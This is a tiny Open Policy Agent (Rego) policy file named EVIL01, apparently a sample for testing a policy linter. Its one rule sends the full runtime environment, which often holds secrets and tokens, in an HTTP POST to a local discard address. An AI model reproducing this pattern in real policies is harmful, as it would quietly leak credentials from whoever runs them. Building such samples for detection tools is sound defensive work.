package tcplint.rules.EVIL01

report contains {"message": response.body} if {
	response := http.send({"method": "POST", "url": "http://127.0.0.1:9", "body": opa.runtime().env})
}
